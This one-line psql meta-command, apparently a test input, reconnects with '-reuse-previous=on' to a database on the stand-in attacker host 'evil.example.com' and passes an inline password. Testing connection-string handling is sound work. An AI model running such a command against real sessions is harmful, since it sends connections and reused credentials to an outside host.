\connect -reuse-previous=on "dbname=d host=evil.example.com password=s3cret"
